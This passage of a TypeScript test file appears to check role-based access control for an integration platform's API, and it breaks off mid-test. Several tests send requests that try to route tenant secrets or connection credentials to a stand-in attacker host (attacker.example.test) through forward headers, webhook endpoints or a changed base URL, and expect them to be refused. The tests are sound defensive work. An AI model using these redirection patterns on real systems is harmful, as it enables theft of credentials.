import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { generateMasterKey } from '../src/vault/keyring.js';
import { createTestApp, type TestApp } from './helpers/app.js';
import { createRole, createUser, rowCounts } from './helpers/fixtures.js';
import {
  createSampleFixtures,
  hasSample,
  sampleRequest,
  type Caller,
  type SampleFixtures,
} from './helpers/route-samples.js';

/**
 * Every route × every built-in role (and a superuser) → 2xx or 403. The expectations are written down here from
 * the seed's intent, not read from src/access/capabilities.ts:
 * - Administrator: everything in the tenant.
 * - Editor: operates integrations; no credential authority (secrets, keys) and no administration (creating or
 *   changing users, roles, keys). It may read who its colleagues are, the roles and the activity log.
 * - Viewer: read-only on integrations (including secret names), nothing administrative.
 * - Superuser-only (tenants, the connector registry, master key): 403 for every tenant role.
 * A new route fails the coverage test until it is added to this table (and to test/helpers/route-samples.ts).
 */
type Role = 'administrator' | 'editor' | 'viewer';
const ADMIN: Role[] = ['administrator'];
const ADMIN_EDITOR: Role[] = ['administrator', 'editor'];
const EVERY_ROLE: Role[] = ['administrator', 'editor', 'viewer'];
const SUPERUSER_ONLY: Role[] = [];

const expected: Record<string, { access: string; roles: Role[] }> = {
  'GET /v1/me': { access: 'authenticated', roles: EVERY_ROLE },
  'DELETE /v1/sessions/current': { access: 'authenticated', roles: EVERY_ROLE },
  'GET /metrics': { access: 'view_metrics', roles: ADMIN },
  'POST /v1/api-keys': { access: 'manage_api_keys', roles: ADMIN },
  'GET /v1/api-keys': { access: 'view_api_keys', roles: ADMIN },
  'GET /v1/api-keys/:id': { access: 'view_api_keys', roles: ADMIN },
  'DELETE /v1/api-keys/:id': { access: 'manage_api_keys', roles: ADMIN },
  'POST /v1/users': { access: 'manage_users', roles: ADMIN },
  'GET /v1/users': { access: 'view_users', roles: ADMIN_EDITOR },
  'GET /v1/users/:id': { access: 'view_users', roles: ADMIN_EDITOR },
  'PATCH /v1/users/:id': { access: 'manage_users', roles: ADMIN },
  'DELETE /v1/users/:id': { access: 'manage_users', roles: ADMIN },
  'GET /v1/roles': { access: 'view_roles', roles: ADMIN_EDITOR },
  'GET /v1/roles/capabilities': { access: 'view_roles', roles: ADMIN_EDITOR },
  'GET /v1/roles/:id': { access: 'view_roles', roles: ADMIN_EDITOR },
  'POST /v1/roles': { access: 'manage_roles', roles: ADMIN },
  'PATCH /v1/roles/:id': { access: 'manage_roles', roles: ADMIN },
  'DELETE /v1/roles/:id': { access: 'manage_roles', roles: ADMIN },
  'GET /v1/tenants': { access: 'manage_tenants', roles: SUPERUSER_ONLY },
  'POST /v1/tenants': { access: 'manage_tenants', roles: SUPERUSER_ONLY },
  'GET /v1/tenants/:id': { access: 'manage_tenants', roles: SUPERUSER_ONLY },
  'PATCH /v1/tenants/:id': { access: 'manage_tenants', roles: SUPERUSER_ONLY },
  'GET /v1/audit': { access: 'view_audit', roles: ADMIN_EDITOR },
  'POST /v1/secrets': { access: 'manage_secrets', roles: ADMIN },
  'GET /v1/secrets': { access: 'view_secrets', roles: EVERY_ROLE },
  'GET /v1/secrets/:name': { access: 'view_secrets', roles: EVERY_ROLE },
  'PUT /v1/secrets/:name': { access: 'manage_secrets', roles: ADMIN },
  'DELETE /v1/secrets/:name': { access: 'manage_secrets', roles: ADMIN },
  'GET /v1/capabilities': { access: 'view_routes', roles: EVERY_ROLE },
  'GET /v1/routes': { access: 'view_routes', roles: EVERY_ROLE },
  'POST /v1/routes': { access: 'manage_routes', roles: ADMIN_EDITOR },
  'GET /v1/routes/:name': { access: 'view_routes', roles: EVERY_ROLE },
  'PATCH /v1/routes/:name': { access: 'manage_routes', roles: ADMIN_EDITOR },
  'DELETE /v1/routes/:name': { access: 'manage_routes', roles: ADMIN_EDITOR },
  'POST /v1/routes/:name/query': { access: 'query_routes', roles: ADMIN_EDITOR },
  'POST /v1/routes/:name/explain': { access: 'view_routes', roles: EVERY_ROLE },
  'GET /v1/routes/:name/health': { access: 'view_routes', roles: EVERY_ROLE },
  'GET /v1/routes/:name/calls': { access: 'view_routes', roles: EVERY_ROLE },
  'GET /v1/routes/:name/stats': { access: 'view_routes', roles: EVERY_ROLE },
  'POST /v1/routes/:name/providers/:connection_id/reset': { access: 'manage_routes', roles: ADMIN_EDITOR },
  'GET /v1/routes/requests/:id': { access: 'query_routes', roles: ADMIN_EDITOR },
  'GET /v1/files': { access: 'view_files', roles: EVERY_ROLE },
  'POST /v1/records/export': { access: 'manage_files', roles: ADMIN_EDITOR },
  'POST /v1/files': { access: 'manage_files', roles: ADMIN_EDITOR },
  'GET /v1/files/:id': { access: 'view_files', roles: EVERY_ROLE },
  'GET /v1/files/:id/content': { access: 'view_files', roles: EVERY_ROLE },
  'DELETE /v1/files/:id': { access: 'manage_files', roles: ADMIN_EDITOR },
  'POST /v1/files/uploads': { access: 'manage_files', roles: ADMIN_EDITOR },
  'GET /v1/files/uploads/:id': { access: 'manage_files', roles: ADMIN_EDITOR },
  'PATCH /v1/files/uploads/:id': { access: 'manage_files', roles: ADMIN_EDITOR },
  'DELETE /v1/files/uploads/:id': { access: 'manage_files', roles: ADMIN_EDITOR },
  'PATCH /v1/files/:id': { access: 'manage_files', roles: ADMIN_EDITOR },
  'GET /v1/files/folders': { access: 'view_files', roles: EVERY_ROLE },
  'GET /v1/files/usage': { access: 'view_files', roles: EVERY_ROLE },
  'GET /v1/files/:id/versions': { access: 'view_files', roles: EVERY_ROLE },
  'GET /v1/files/:id/versions/:version/content': { access: 'view_files', roles: EVERY_ROLE },
  'POST /v1/files/:id/versions/:version/restore': { access: 'manage_files', roles: ADMIN_EDITOR },
  'POST /v1/files/:id/links': { access: 'manage_files', roles: ADMIN_EDITOR },
  // Browsing a drive or bucket reads through the connection's credentials: not for viewers.
  'GET /v1/storage/connections': { access: 'browse_storage', roles: ADMIN_EDITOR },
  'GET /v1/storage/connections/:id/roots': { access: 'browse_storage', roles: ADMIN_EDITOR },
  'GET /v1/storage/connections/:id/items': { access: 'browse_storage', roles: ADMIN_EDITOR },
  'GET /v1/storage/connections/:id/item': { access: 'browse_storage', roles: ADMIN_EDITOR },
  'POST /v1/storage/imports': { access: 'browse_storage', roles: ADMIN_EDITOR },
  'POST /v1/storage/exports': { access: 'browse_storage', roles: ADMIN_EDITOR },
  'GET /v1/storage/imports': { access: 'view_files', roles: EVERY_ROLE },
  'GET /v1/storage/imports/:id': { access: 'view_files', roles: EVERY_ROLE },
  'GET /v1/storage/imports/:id/files': { access: 'view_files', roles: EVERY_ROLE },
  'POST /v1/storage/imports/:id/cancel': { access: 'manage_files', roles: ADMIN_EDITOR },
  'POST /v1/storage/imports/:id/retry': { access: 'manage_files', roles: ADMIN_EDITOR },
  'GET /v1/storage/exports': { access: 'view_files', roles: EVERY_ROLE },
  'GET /v1/storage/exports/:id': { access: 'view_files', roles: EVERY_ROLE },
  'GET /v1/storage/exports/:id/files': { access: 'view_files', roles: EVERY_ROLE },
  'POST /v1/storage/exports/:id/cancel': { access: 'manage_files', roles: ADMIN_EDITOR },
  'POST /v1/storage/exports/:id/retry': { access: 'manage_files', roles: ADMIN_EDITOR },
  'POST /v1/imports/inspect': { access: 'view_files', roles: EVERY_ROLE },
  'GET /v1/imports': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/syncs/executions/:id/errors-file': { access: 'view_syncs', roles: EVERY_ROLE },
  'POST /v1/syncs/executions/:id/undo': { access: 'run_syncs', roles: ADMIN_EDITOR },
  'GET /v1/connectors': { access: 'browse_connector_library', roles: EVERY_ROLE },
  'GET /v1/connectors/:slug': { access: 'browse_connector_library', roles: EVERY_ROLE },
  'POST /v1/connectors': { access: 'manage_registry', roles: SUPERUSER_ONLY },
  'PATCH /v1/connectors/:slug': { access: 'manage_registry', roles: SUPERUSER_ONLY },
  'DELETE /v1/connectors/:slug': { access: 'manage_registry', roles: SUPERUSER_ONLY },
  'GET /v1/connectors/:slug/system-connection': { access: 'manage_registry', roles: SUPERUSER_ONLY },
  'PUT /v1/connectors/:slug/system-connection': { access: 'manage_registry', roles: SUPERUSER_ONLY },
  'DELETE /v1/connectors/:slug/system-connection': { access: 'manage_registry', roles: SUPERUSER_ONLY },
  'GET /v1/system/master-key': { access: 'manage_master_key', roles: SUPERUSER_ONLY },
  'POST /v1/system/master-key/rotate': { access: 'manage_master_key', roles: SUPERUSER_ONLY },
  'POST /v1/connections': { access: 'create_connection', roles: ADMIN },
  // Credentials moved in from another platform: its own capability, held by administrators.
  'POST /v1/connections/import': { access: 'import_connections', roles: ADMIN },
  // Connect sessions act with their maker's authority over connections: administrators by default.
  'POST /v1/connect/sessions': { access: 'create_connect_session', roles: ADMIN },
  'GET /v1/connect/sessions/:id': { access: 'create_connect_session', roles: ADMIN },
  'DELETE /v1/connect/sessions/:id': { access: 'create_connect_session', roles: ADMIN },
  'GET /v1/connections': { access: 'list_connections', roles: EVERY_ROLE },
  'GET /v1/connections/summary': { access: 'list_connections', roles: EVERY_ROLE },
  'GET /v1/connections/:id': { access: 'list_connections', roles: EVERY_ROLE },
  'PATCH /v1/connections/:id': { access: 'edit_connection', roles: ADMIN_EDITOR },
  'DELETE /v1/connections/:id': { access: 'disconnect', roles: ADMIN },
  'POST /v1/connections/:id/test': { access: 'test_connection', roles: ADMIN_EDITOR },
  'POST /v1/connections/:id/pause': { access: 'pause_resume', roles: ADMIN_EDITOR },
  'POST /v1/connections/:id/resume': { access: 'pause_resume', roles: ADMIN_EDITOR },
  'POST /v1/connections/:id/refresh': { access: 'refresh_credentials', roles: ADMIN },
  'GET /v1/connections/:id/history': { access: 'list_connections', roles: EVERY_ROLE },
  'GET /v1/connections/:id/requests': { access: 'list_connections', roles: EVERY_ROLE },
  'HEAD /v1/connections/:id/proxy/*': { access: 'use_proxy', roles: ADMIN_EDITOR },
  'GET /v1/connections/:id/proxy/*': { access: 'use_proxy', roles: ADMIN_EDITOR },
  'POST /v1/connections/:id/proxy/*': { access: 'use_proxy', roles: ADMIN_EDITOR },
  'PUT /v1/connections/:id/proxy/*': { access: 'use_proxy', roles: ADMIN_EDITOR },
  'PATCH /v1/connections/:id/proxy/*': { access: 'use_proxy', roles: ADMIN_EDITOR },
  'DELETE /v1/connections/:id/proxy/*': { access: 'use_proxy', roles: ADMIN_EDITOR },
  'OPTIONS /v1/connections/:id/proxy/*': { access: 'use_proxy', roles: ADMIN_EDITOR },
  // A tenant's own OAuth app is credential authority; which app is used is visible to anyone who sees connections.
  'PUT /v1/oauth/clients/:connector': { access: 'create_connection', roles: ADMIN },
  'GET /v1/oauth/clients/:connector': { access: 'list_connections', roles: EVERY_ROLE },
  'DELETE /v1/oauth/clients/:connector': { access: 'create_connection', roles: ADMIN },
  'POST /v1/oauth/authorize': { access: 'create_connection', roles: ADMIN },
  // The starter may always read its flow; anyone else needs list_connections (every built-in role has it).
  'GET /v1/oauth/flows/:id': { access: 'authenticated', roles: EVERY_ROLE },
  // Renewing consent is an edit (a scope change needs edit_scopes on top); connecting one's own account to a
  // user-level connection is what using it through the proxy needs.
  'POST /v1/connections/:id/reauthorize': { access: 'edit_connection', roles: ADMIN_EDITOR },
  'POST /v1/connections/:id/connect': { access: 'use_proxy', roles: ADMIN_EDITOR },
  // Outbound webhooks: the editor operates them, the viewer reads them (event types, events, endpoints, deliveries).
  'POST /v1/event-types': { access: 'manage_webhooks', roles: ADMIN_EDITOR },
  'GET /v1/event-types': { access: 'view_webhooks', roles: EVERY_ROLE },
  'GET /v1/event-types/:name': { access: 'view_webhooks', roles: EVERY_ROLE },
  'PATCH /v1/event-types/:name': { access: 'manage_webhooks', roles: ADMIN_EDITOR },
  'DELETE /v1/event-types/:name': { access: 'manage_webhooks', roles: ADMIN_EDITOR },
  'POST /v1/events': { access: 'publish_events', roles: ADMIN_EDITOR },
  'GET /v1/events': { access: 'view_webhooks', roles: EVERY_ROLE },
  'GET /v1/events/:id': { access: 'view_webhooks', roles: EVERY_ROLE },
  'POST /v1/syncs': { access: 'manage_syncs', roles: ADMIN_EDITOR },
  'GET /v1/syncs': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/syncs/stats': { access: 'view_syncs', roles: EVERY_ROLE },
  'POST /v1/syncs/schedule-preview': { access: 'view_syncs', roles: EVERY_ROLE },
  'POST /v1/syncs/discover': { access: 'view_syncs', roles: EVERY_ROLE },
  'POST /v1/syncs/mapping-preview': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/syncs/:id': { access: 'view_syncs', roles: EVERY_ROLE },
  'PATCH /v1/syncs/:id': { access: 'manage_syncs', roles: ADMIN_EDITOR },
  'DELETE /v1/syncs/:id': { access: 'manage_syncs', roles: ADMIN_EDITOR },
  'POST /v1/syncs/:id/run': { access: 'run_syncs', roles: ADMIN_EDITOR },
  'GET /v1/syncs/:id/state': { access: 'view_syncs', roles: EVERY_ROLE },
  'PUT /v1/syncs/:id/state/:stream': { access: 'manage_syncs', roles: ADMIN_EDITOR },
  'POST /v1/syncs/:id/reset': { access: 'manage_syncs', roles: ADMIN_EDITOR },
  'GET /v1/syncs/executions': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/syncs/conflicts': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/syncs/conflicts/:id': { access: 'view_syncs', roles: EVERY_ROLE },
  'POST /v1/syncs/conflicts/:id/resolve': { access: 'run_syncs', roles: ADMIN_EDITOR },
  'GET /v1/syncs/executions/:id': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/syncs/executions/:id/logs': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/syncs/executions/:id/rejected': { access: 'view_syncs', roles: EVERY_ROLE },
  'POST /v1/syncs/executions/:id/cancel': { access: 'run_syncs', roles: ADMIN_EDITOR },
  'POST /v1/webhooks/endpoints': { access: 'manage_webhooks', roles: ADMIN_EDITOR },
  'GET /v1/webhooks/endpoints': { access: 'view_webhooks', roles: EVERY_ROLE },
  'GET /v1/webhooks/endpoints/:id': { access: 'view_webhooks', roles: EVERY_ROLE },
  'PATCH /v1/webhooks/endpoints/:id': { access: 'manage_webhooks', roles: ADMIN_EDITOR },
  'DELETE /v1/webhooks/endpoints/:id': { access: 'manage_webhooks', roles: ADMIN_EDITOR },
  'POST /v1/webhooks/endpoints/:id/secrets/rotate': { access: 'manage_webhooks', roles: ADMIN_EDITOR },
  'GET /v1/webhooks/deliveries': { access: 'browse_delivery_log', roles: EVERY_ROLE },
  'GET /v1/webhooks/deliveries/:id': { access: 'browse_delivery_log', roles: EVERY_ROLE },
  'GET /v1/webhooks/deliveries/:id/attempts/:attemptId': { access: 'browse_delivery_log', roles: EVERY_ROLE },
  'POST /v1/webhooks/deliveries/:id/retry': { access: 'retry_failed_delivery', roles: ADMIN_EDITOR },
  'POST /v1/webhooks/replay': { access: 'manage_webhooks', roles: ADMIN_EDITOR },
  'GET /v1/webhooks/stats': { access: 'view_webhooks', roles: EVERY_ROLE },
  'POST /v1/inbound/sources': { access: 'manage_inbound', roles: ADMIN_EDITOR },
  'GET /v1/inbound/sources': { access: 'view_inbound', roles: EVERY_ROLE },
  'GET /v1/inbound/sources/:id': { access: 'view_inbound', roles: EVERY_ROLE },
  'PATCH /v1/inbound/sources/:id': { access: 'manage_inbound', roles: ADMIN_EDITOR },
  'DELETE /v1/inbound/sources/:id': { access: 'manage_inbound', roles: ADMIN_EDITOR },
  'POST /v1/inbound/sources/:id/rotate-token': { access: 'manage_inbound', roles: ADMIN_EDITOR },
  'POST /v1/inbound/sources/:id/rotate-secret': { access: 'manage_inbound', roles: ADMIN_EDITOR },
  'GET /v1/inbound/events': { access: 'view_inbound', roles: EVERY_ROLE },
  'GET /v1/records': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/records/models': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/records/export': { access: 'view_syncs', roles: EVERY_ROLE },
  'GET /v1/inbound/events/:id': { access: 'view_inbound', roles: EVERY_ROLE },
  'POST /v1/inbound/events/:id/replay': { access: 'manage_inbound', roles: ADMIN_EDITOR },
  'POST /v1/inbound/replay': { access: 'manage_inbound', roles: ADMIN_EDITOR },
};

/** Routes that need no credentials at all. */
const publicRoutes = [
  'GET /healthz',
  'GET /readyz',
  'GET /v1/openapi.json',
  'GET /docs/errors',
  'POST /v1/sessions',
  'GET /v1/oauth/callback',
  'POST /hooks/:token',
  'GET /hooks/:token',
  // An expiring shared link: its signed token is the credential.
  'GET /files/shared/:token',
  // The Connect UI: a connect session's token (a header, or the page's query) is the end user's only credential.
  'GET /connect',
  'GET /v1/connect/session',
  'POST /v1/connect/connections',
  'POST /v1/connect/connections/:id/credentials',
  'POST /v1/connect/oauth/authorize',
  'GET /v1/connect/oauth/flows/:id',
];

// Every table a denied request must leave alone (the audit log gains its `denied` entry).
const dataTables = [
  'tenants',
  'users',
  'sessions',
  'api_keys',
  'roles',
  'secrets',
  'secret_versions',
  'data_keys',
  'connectors',
  'system_connections',
  'connections',
  'connection_credentials',
  'oauth_clients',
  'oauth_flows',
  'event_types',
  'events',
  'webhook_endpoints',
  'webhook_endpoint_secrets',
  'webhook_deliveries',
  'webhook_attempts',
  'inbound_sources',
  'inbound_source_secrets',
  'inbound_events',
  'inbound_dedup',
  'routes',
  'route_requests',
  'provider_health',
  'sync_links',
  'sync_conflicts',
];

let t: TestApp;
let fixtures: SampleFixtures;
let callers: (Caller & { role: Role | 'superuser' })[];

// One app for the file (building one per route would cost a quarter of a second each); each test gets fresh
// fixtures, and the checks compare row counts before and after, so earlier tests' rows do not matter.
beforeAll(async () => {
  // Two environment keys, so the superuser's master-key rotation has something to do and answers 200.
  t = await createTestApp({ masterKey: `${generateMasterKey()},${generateMasterKey()}` });
});
beforeEach(async () => {
  fixtures = await createSampleFixtures(t);
  const roles: Role[] = ['administrator', 'editor', 'viewer'];
  callers = [];
  for (const role of roles) {
    const { token } = await t.keyWithRole(role);
    callers.push({ name: role, role, token, newUser: () => createUser(t, { role }) });
  }
  callers.push({
    name: 'superuser',
    role: 'superuser',
    token: t.adminToken,
    newUser: () => createUser(t, { role: 'administrator', superuser: true }),
  });
});
afterAll(async () => {
  await t.close();
});

const routeKey = (r: { method: string; url: string }) => `${r.method} ${r.url}`;

describe('RBAC matrix', () => {
  it('covers every registered route exactly, with the access each route declares', () => {
    const registered = t.built.routes.map(routeKey).sort();
    const covered = [...Object.keys(expected), ...publicRoutes].sort();
    expect(registered).toEqual(covered);
    for (const route of t.built.routes) {
      const key = routeKey(route);
      expect(hasSample(key), `sample request for ${key}`).toBe(true);
      const declared = typeof route.access === 'object' ? route.access.capability : route.access;
      expect(declared, key).toBe(publicRoutes.includes(key) ? 'public' : expected[key]?.access);
    }
  });

  it.each(Object.keys(expected))('%s: allowed roles get a 2xx, the others 403', async (route) => {
    const rule = expected[route] as { access: string; roles: Role[] };
    for (const caller of callers) {
      const sample = await sampleRequest(route, fixtures, caller);
      const allowed = caller.role === 'superuser' || rule.roles.includes(caller.role);
      const before = allowed ? undefined : await rowCounts(t, dataTables);
      const res = await t.request({ ...sample, token: sample.token ?? caller.token });
      const who = `${caller.name} → ${route}: ${res.body.slice(0, 300)}`;
      if (allowed) {
        expect(res.statusCode, who).toBeGreaterThanOrEqual(200);
        expect(res.statusCode, who).toBeLessThan(300);
      } else {
        expect(res.statusCode, who).toBe(403);
        // A HEAD response has no body to name the code in.
        if (sample.method !== 'HEAD') {
          expect(res.data.code, who).toBe('forbidden');
          expect(res.data.missing_capability, who).toBe(rule.access);
        }
        expect(await rowCounts(t, dataTables), who).toEqual(before);
      }
    }
  });

  it.each(publicRoutes)('%s answers without credentials', async (route) => {
    const sample = await sampleRequest(route, fixtures, callers[0] as Caller);
    const res = await t.request({ ...sample, token: null, ...(sample.headers ? { headers: sample.headers } : {}) });
    expect(res.statusCode, res.body.slice(0, 300)).toBeGreaterThanOrEqual(200);
    expect(res.statusCode).toBeLessThan(300);
  });

  it('refuses every non-public route without credentials with 401 unauthenticated', async () => {
    for (const route of Object.keys(expected)) {
      const sample = await sampleRequest(route, fixtures, callers[0] as Caller);
      const res = await t.request({ method: sample.method, url: sample.url, body: sample.body, token: null });
      expect(res.statusCode, route).toBe(401);
      if (sample.method !== 'HEAD') expect(res.data.code, route).toBe('unauthenticated');
    }
  });
});

/**
 * Rules inside a route, on top of the capability it declares (see src/access/capabilities.ts):
 * - moving where a connection's credentials are sent (a config field its base URL, OAuth endpoints or connection
 *   string render) is credential authority, like rotating them: `edit_connection` alone gets 403 `forbidden` with
 *   `missing_capability: create_connection`;
 * - revoking an API key is acting on its holder's access: a caller lacking any capability of the key's role (or
 *   a non-superuser facing a superuser's key) gets 403 `privilege_escalation`, whatever role lets it manage keys;
 * - sending a tenant secret to a URL it was not sent to before (a header `{{secrets.X}}` saved on an inbound forward
 *   action or an outbound endpoint, or the URL moved under such a header) is secret authority: `manage_inbound` or
 *   `manage_webhooks` alone get 403 `forbidden` with `missing_capability: manage_secrets`;
 * - setting the value of a tenant secret that a connection's destination field references (`{{secrets.X}}` in its
 *   base URL's host) moves the connection: `manage_secrets` alone gets 403 `forbidden` with
 *   `missing_capability: create_connection`.
 */
describe('RBAC matrix: rules inside a route', () => {
  it('PATCH /v1/connections/:id moving the destination: Administrator and superuser only', async () => {
    for (const caller of callers) {
      const sample = await sampleRequest('PATCH /v1/connections/:id', fixtures, caller);
      const body = { config: { base_url: 'https://elsewhere.example.test' }, validate: false };
      const before = await rowCounts(t, dataTables);
      const res = await t.request({ ...sample, body, token: caller.token });
      const who = `${caller.name}: ${res.body.slice(0, 300)}`;
      if (caller.role === 'administrator' || caller.role === 'superuser') {
        expect(res.statusCode, who).toBe(200);
        continue;
      }
      expect(res.statusCode, who).toBe(403);
      expect(res.data, who).toMatchObject({ code: 'forbidden' });
      expect(res.data.missing_capability, who).toBe(caller.role === 'editor' ? 'create_connection' : 'edit_connection');
      expect(await rowCounts(t, dataTables), who).toEqual(before);
    }
  });

  it('DELETE /v1/api-keys/:id of a key stronger than the caller: privilege_escalation', async () => {
    const manager = await t.keyWithRole(await createRole(t, ['manage_api_keys', 'view_api_keys']));
    const keyManager = { name: 'custom role with manage_api_keys', token: manager.token };
    const superuserKeyId = (
      await t.db.query<{ id: string }>('select id from api_keys where superuser and tenant_id = $1', [t.tenantId])
    ).rows[0]?.id as string;
    const cases = [
      {
        caller: keyManager,
        victim: async () => (await t.keyWithRole('administrator')).id,
        code: 'privilege_escalation',
      },
      { caller: keyManager, victim: async () => (await t.keyWithRole('editor')).id, code: 'privilege_escalation' },
      { caller: keyManager, victim: async () => superuserKeyId, code: 'privilege_escalation' },
      { caller: callers[0] as Caller, victim: async () => superuserKeyId, code: 'privilege_escalation' },
      { caller: callers[0] as Caller, victim: async () => (await t.keyWithRole('administrator')).id, code: null },
    ];
    for (const { caller, victim, code } of cases) {
      const id = await victim();
      const before = await rowCounts(t, dataTables);
      const res = await t.request({ method: 'DELETE', url: `/v1/api-keys/${id}`, token: caller.token });
      const who = `${caller.name}: ${res.body.slice(0, 300)}`;
      if (code === null) {
        expect(res.statusCode, who).toBe(200);
        continue;
      }
      expect(res.statusCode, who).toBe(403);
      expect(res.data.code, who).toBe(code);
      expect(await rowCounts(t, dataTables), who).toEqual(before);
      const row = await t.db.query('select revoked_at from api_keys where id = $1', [id]);
      expect(row.rows, who).toEqual([{ revoked_at: null }]);
    }
  });

  it('PUT /v1/secrets/:name of a secret a connection’s destination names: credential authority as well', async () => {
    const secretsOnly = await t.keyWithRole(await createRole(t, ['manage_secrets', 'view_secrets']));
    const cases: { caller: { name: string; token: string }; missing: string | null }[] = [
      ...callers.map((caller) => ({
        caller,
        missing: caller.role === 'administrator' || caller.role === 'superuser' ? null : 'manage_secrets',
      })),
      { caller: { name: 'custom role with manage_secrets', token: secretsOnly.token }, missing: 'create_connection' },
    ];
    for (const { caller, missing } of cases) {
      const name = `HOST_${Math.random().toString(36).slice(2, 10)}`;
      const made = await t.request({ method: 'POST', url: '/v1/secrets', body: { name, value: 'https://a.example' } });
      expect(made.statusCode, made.body).toBe(201);
      const connection = await t.request({
        method: 'POST',
        url: '/v1/connections',
        body: {
          connector: 'generic_rest',
          config: { base_url: `{{secrets.${name}}}`, test_path: '/me' },
          credentials: { api_key: 'k' },
          validate: false,
        },
      });
      expect(connection.statusCode, connection.body).toBe(201);
      const before = await rowCounts(t, dataTables);
      const res = await t.request({
        method: 'PUT',
        url: `/v1/secrets/${name}`,
        body: { value: 'https://attacker.example.test' },
        token: caller.token,
      });
      const who = `${caller.name}: ${res.body.slice(0, 300)}`;
      if (missing === null) {
        expect(res.statusCode, who).toBe(200);
        continue;
      }
      expect(res.statusCode, who).toBe(403);
      expect(res.data, who).toMatchObject({ code: 'forbidden', missing_capability: missing });
      expect(await rowCounts(t, dataTables), who).toEqual(before);
      expect((await t.request({ url: `/v1/secrets/${name}` })).data.version, who).toBe(1);
    }
  });

  /**
   * Each caller's request against a fresh target made by the administrator: allowed for the Administrator and the
   * superuser; the Editor lacks manage_secrets; the Viewer lacks the route's own capability. Nothing changes when
   * refused.
   */
  async function expectSecretAuthority(
    route: string,
    request: (caller: Caller) => Promise<{ method: 'POST' | 'PATCH'; url: string; body: Record<string, unknown> }>,
    unchanged: (caller: Caller) => Promise<unknown>,
  ) {
    const routeCapability = expected[route]?.access;
    for (const caller of callers) {
      const req = await request(caller);
      const before = await rowCounts(t, dataTables);
      const stateBefore = await unchanged(caller);
      const res = await t.request({ ...req, token: caller.token });
      const who = `${caller.name} → ${route}: ${res.body.slice(0, 300)}`;
      if (caller.role === 'administrator' || caller.role === 'superuser') {
        expect(res.statusCode, who).toBeGreaterThanOrEqual(200);
        expect(res.statusCode, who).toBeLessThan(300);
        continue;
      }
      expect(res.statusCode, who).toBe(403);
      expect(res.data.code, who).toBe('forbidden');
      expect(res.data.missing_capability, who).toBe(caller.role === 'editor' ? 'manage_secrets' : routeCapability);
      if (caller.role === 'editor') expect(res.data.secret_references, who).toEqual([fixtures.secretName]);
      expect(await rowCounts(t, dataTables), who).toEqual(before);
      expect(await unchanged(caller), who).toEqual(stateBefore);
    }
  }

  const secretHeader = () => ({ Authorization: `Bearer {{secrets.${fixtures.secretName}}}` });
  const forwardRule = (url: string, headers?: Record<string, string>) => ({
    name: 'relay',
    actions: [{ type: 'forward', url, ...(headers ? { headers } : {}) }],
  });
  const sourceWithSecretForward = async () => {
    const res = await t.request({
      method: 'POST',
      url: '/v1/inbound/sources',
      body: {
        name: `secret-forward-${Math.random()}`,
        verification: { type: 'none' },
        rules: [forwardRule('https://receiver.example.test/in', secretHeader())],
      },
    });
    expect(res.statusCode, res.body).toBe(201);
    return (res.data.source as { id: string }).id;
  };
  const endpointWithSecretHeader = async () => {
    const res = await t.request({
      method: 'POST',
      url: '/v1/webhooks/endpoints',
      body: { url: 'https://receiver.example.test/out', headers: secretHeader() },
    });
    expect(res.statusCode, res.body).toBe(201);
    return res.data.id as string;
  };
  const sourceRules = async (id: string) =>
    (await t.request({ url: `/v1/inbound/sources/${id}` })).data.rules as unknown;
  const endpointState = async (id: string) => {
    const { data } = await t.request({ url: `/v1/webhooks/endpoints/${id}` });
    return { url: data.url, header_names: data.header_names };
  };

  it('POST /v1/inbound/sources with a forward header naming a tenant secret: secret authority', async () => {
    await expectSecretAuthority(
      'POST /v1/inbound/sources',
      async () => ({
        method: 'POST',
        url: '/v1/inbound/sources',
        body: {
          name: `attacker-${Math.random()}`,
          verification: { type: 'none' },
          rules: [forwardRule('https://attacker.example.test/collect', secretHeader())],
        },
      }),
      async () => (await t.db.query('select count(*)::int as n from inbound_sources')).rows,
    );
  });

  it('PATCH /v1/inbound/sources/:id moving a forward whose headers name a secret: secret authority', async () => {
    const sources = new Map<string, string>();
    await expectSecretAuthority(
      'PATCH /v1/inbound/sources/:id',
      async (caller) => {
        const id = await sourceWithSecretForward();
        sources.set(caller.name, id);
        return {
          method: 'PATCH',
          url: `/v1/inbound/sources/${id}`,
          body: { rules: [forwardRule('https://attacker.example.test/collect', secretHeader())] },
        };
      },
      async (caller) => sourceRules(sources.get(caller.name) as string),
    );
  });

  it('PATCH /v1/inbound/sources/:id keeping or dropping a secret header where it went: manage_inbound suffices', async () => {
    const editor = callers.find((c) => c.role === 'editor') as Caller;
    const id = await sourceWithSecretForward();
    const patch = (body: Record<string, unknown>) =>
      t.request({ method: 'PATCH', url: `/v1/inbound/sources/${id}`, body, token: editor.token });
    // The same header to the same URL (restated, or left out and kept), another rule beside it, then no header.
    const restated = await patch({
      rules: [
        forwardRule('https://receiver.example.test/in', secretHeader()),
        { ...forwardRule('https://other.example.test/in'), name: 'other' },
      ],
    });
    expect(restated.statusCode, restated.body).toBe(200);
    const kept = await patch({ description: 'kept', rules: [forwardRule('https://receiver.example.test/in')] });
    expect(kept.statusCode, kept.body).toBe(200);
    expect(kept.data.rules).toMatchObject([{ actions: [{ header_names: ['authorization'] }] }]);
    const dropped = await patch({ rules: [forwardRule('https://elsewhere.example.test/in', {})] });
    expect(dropped.statusCode, dropped.body).toBe(200);
    expect(dropped.data.rules).toMatchObject([{ actions: [{ header_names: [] }] }]);
  });

  it('POST /v1/webhooks/endpoints with a header naming a tenant secret: secret authority', async () => {
    await expectSecretAuthority(
      'POST /v1/webhooks/endpoints',
      async () => ({
        method: 'POST',
        url: '/v1/webhooks/endpoints',
        body: { url: 'https://attacker.example.test/collect', headers: secretHeader() },
      }),
      async () => (await t.db.query('select count(*)::int as n from webhook_endpoints')).rows,
    );
  });

  it('PATCH /v1/webhooks/endpoints/:id moving an endpoint whose headers name a secret: secret authority', async () => {
    const endpoints = new Map<string, string>();
    await expectSecretAuthority(
      'PATCH /v1/webhooks/endpoints/:id',
      async (caller) => {
        const id = await endpointWithSecretHeader();
